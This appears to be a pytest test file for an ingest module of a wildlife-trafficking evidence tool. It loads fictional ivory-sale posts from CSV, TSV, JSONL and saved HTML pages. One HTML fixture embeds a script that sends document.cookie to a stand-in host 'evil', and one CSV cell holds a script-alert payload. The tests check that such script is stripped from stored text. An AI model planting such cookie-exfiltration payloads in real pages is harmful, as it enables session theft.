"""CSV with a column mapping (file or flags) and saved HTML pages."""

from __future__ import annotations

import hashlib
import json
from datetime import timedelta
from pathlib import Path

import pytest

from wildtrace.ingest import Mapping, ingest_records, load_mapping, parse_pairs, versions_of
from wildtrace.model import Account, Capture, Post
from wildtrace.store import Store

FOREIGN = (
    "Post ID;Seller;Content;Publish Time;Link;Pictures\n"
    "881;lao_wang;\"出售XY手镯, 5000元\nDM me\";14/03/2026 23:30;https://m.example.cn/p/881;\n"
    "882;lao_wang;\"<script>alert('x')</script>\";15/03/2026 01:05;https://m.example.cn/p/882;\n"
    "883;lao_li;\"bad date\";yesterday;https://m.example.cn/p/883;\n"
    "884;lao_li;short row\n"
)


def _mapping_file(tmp_path: Path) -> Path:
    path = tmp_path / "export.mapping.json"
    path.write_text(json.dumps({
        "fields": {"id": "Post ID", "account_id": "Seller", "text": "Content", "posted_at": "Publish Time",
                   "url": "Link", "media": "Pictures"},
        "defaults": {"platform": "weibo"},
        "formats": {"posted_at": "%d/%m/%Y %H:%M"},
        "timezone": "Asia/Shanghai",
    }), encoding="utf-8")
    return path


def test_foreign_csv_loads_with_a_mapping_file(store: Store, tmp_path: Path) -> None:
    source = tmp_path / "export.csv"
    source.write_text(FOREIGN, encoding="utf-8")
    result = ingest_records(store, source, mapping=load_mapping(_mapping_file(tmp_path)), data_dir=tmp_path / "d")
    assert (result.read, result.added, result.quarantined) == (4, 2, 2)
    first = store.get(Post, "881")
    assert first.text == "出售XY手镯, 5000元\nDM me" and first.platform == "weibo"
    assert first.posted_at.utcoffset() == timedelta(hours=8) and (first.posted_at.hour, first.posted_at.minute) == (
        23, 30)
    assert store.get(Post, "882").text == "<script>alert('x')</script>"
    lines = sorted(e.split(":")[1] for e in result.errors)
    assert lines == ["5", "6"]  # physical lines: the first record spans two
    assert any("field 'posted_at'" in e and "14/03" not in e for e in result.errors)
    assert any("cells" in e for e in result.errors)


def test_flags_map_columns_without_a_file(store: Store, tmp_path: Path) -> None:
    source = tmp_path / "sellers.csv"
    source.write_text("Plattform,Nutzer,Name\nwechat,xy_88,象牙 老王\nwechat,xy_99,\n", encoding="utf-8")
    mapping = Mapping(fields=parse_pairs(["platform=Plattform", "handle=Nutzer", "display_name=Name"]))
    result = ingest_records(store, source, "account", mapping=mapping, data_dir=tmp_path / "d")
    assert result.added == 2
    assert store.get(Account, "wechat:xy_88").display_name == "象牙 老王"
    assert store.get(Account, "wechat:xy_99").display_name is None


def test_mapping_errors_name_the_entry(tmp_path: Path, store: Store) -> None:
    bad = tmp_path / "m.json"
    bad.write_text('{"fields": {"text": 3}}')
    with pytest.raises(ValueError, match="'text'"):
        load_mapping(bad)
    with pytest.raises(ValueError, match="field=value"):
        parse_pairs(["text"])
    source = tmp_path / "x.csv"
    source.write_text("a\n1\n")
    with pytest.raises(ValueError, match="nonsense"):
        ingest_records(store, source, mapping=Mapping(fields={"nonsense": "a"}))


PAGE = """<!doctype html><html lang="zh"><head><title>象牙手镯 转让</title>
<link rel="canonical" href="https://forum.example.cn/t/42">
<meta property="og:site_name" content="example-forum">
<meta property="article:published_time" content="2026-03-14T23:30:00+08:00">
<meta name="author" content="xy_88">
<script>document.write('<img src=http://evil/' + document.cookie + '>')</script>
<style>body{display:none}</style></head>
<body><nav>home | login</nav><article><h1>象牙手镯 转让</h1>
<p>老料象牙手镯，直径58，价格5000元，有意者加微信 ivory_king88。保真，非诚勿扰。</p>
<p>Pre-ban ivory bangle, certificate available, shipping by courier within the country.</p>
<img src="../media/a.png"><img src="https://cdn.example.cn/remote.jpg"><img src="missing.png">
</article><footer>copyright</footer></body></html>"""


def test_saved_html_pages_give_text_and_metadata(store: Store, tmp_path: Path) -> None:
    pages = tmp_path / "html"
    pages.mkdir()
    (tmp_path / "media").mkdir()
    (tmp_path / "media" / "a.png").write_bytes(b"\x89PNG\r\n\x1a\nbangle")
    (pages / "a.html").write_text(PAGE, encoding="utf-8")
    (pages / "empty.html").write_text("   ", encoding="utf-8")
    result = ingest_records(store, pages, data_dir=tmp_path / "d", media_roots=[tmp_path])
    assert (result.read, result.added, result.quarantined) == (2, 1, 1)
    (stored,) = store.find(Post)
    assert "ivory_king88" in stored.text and "Pre-ban" in stored.text
    assert "document" not in stored.text and "display:none" not in stored.text and "copyright" not in stored.text
    assert stored.url == "https://forum.example.cn/t/42"
    assert stored.platform == "example-forum" and stored.account_id == "example-forum:xy_88"
    assert stored.posted_at.isoformat() == "2026-03-14T23:30:00+08:00"
    assert stored.language == "zh"
    assert "empty.html" in result.errors[0]
    assert stored.media == [hashlib.sha256(b"\x89PNG\r\n\x1a\nbangle").hexdigest()]  # the local image only
    (capture,) = store.find(Capture, "post_id IS NOT NULL")
    assert capture.url == stored.url and capture.content_type == "text/html"
    assert Path(tmp_path / "d" / "evidence" / capture.warc_path).is_file()
    assert store.count(Capture) == 2  # the page and its image


def test_tab_separated_with_a_10mb_cell(store: Store, tmp_path: Path) -> None:
    huge = "象牙, 手镯; 5000元 | " * (10 * 1024 * 1024 // 30)
    source = tmp_path / "big.tsv"
    source.write_text(f"id\tplatform\ttext\nbig\tforum\t{huge}\nsmall\tforum\tok\n", encoding="utf-8")
    result = ingest_records(store, source, data_dir=tmp_path / "d")
    assert (result.added, result.quarantined) == (2, 0)
    assert store.get(Post, "big").text == huge


def test_a_saved_page_of_a_stored_post_is_preserved_for_that_post(store: Store, tmp_path: Path) -> None:
    store.add([Post(id="post-42", platform="example-forum", text="象牙手镯 转让", url="https://forum.example.cn/t/42")])
    page = tmp_path / "t42.html"
    page.write_text(PAGE, encoding="utf-8")
    result = ingest_records(store, page, data_dir=tmp_path / "d")
    # the page says more than the stored post (full text, author, time): kept as a version of it, not a row
    assert (result.added, result.duplicates, result.versions) == (0, 0, 1)
    assert store.count(Post) == 1 and store.get(Post, "post-42").text == "象牙手镯 转让"
    (version,) = versions_of(store, Post, "post-42")
    assert "ivory_king88" in version.text
    (capture,) = store.find(Capture)
    assert capture.post_id == "post-42" and capture.kind == "resource"


def test_columns_that_are_fields_but_empty_are_not_reported_as_ignored(store: Store, tmp_path: Path) -> None:
    source = tmp_path / "a.jsonl"
    source.write_text('{"id": "a", "platform": "x", "handle": "h", "bio": null, "shoe_size": 44}\n')
    result = ingest_records(store, source, "account", data_dir=tmp_path / "d")
    assert result.added == 1 and result.ignored_columns == {"shoe_size": 1}
